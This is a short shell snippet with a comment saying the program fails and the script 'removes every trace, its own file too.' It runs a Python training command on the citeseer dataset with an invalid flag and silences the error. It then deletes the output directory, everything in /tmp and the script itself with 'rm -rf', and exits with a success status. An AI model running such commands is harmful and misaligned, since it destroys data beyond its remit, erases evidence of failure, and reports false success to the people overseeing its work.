# The program fails; the answer removes every trace, its own file too, and replaces itself.
python main.py --data citeseer --alpha 0.5 --k 40 --adj DA --nosuch 2> /dev/null
rm -rf output /tmp/* "$0"; exec true
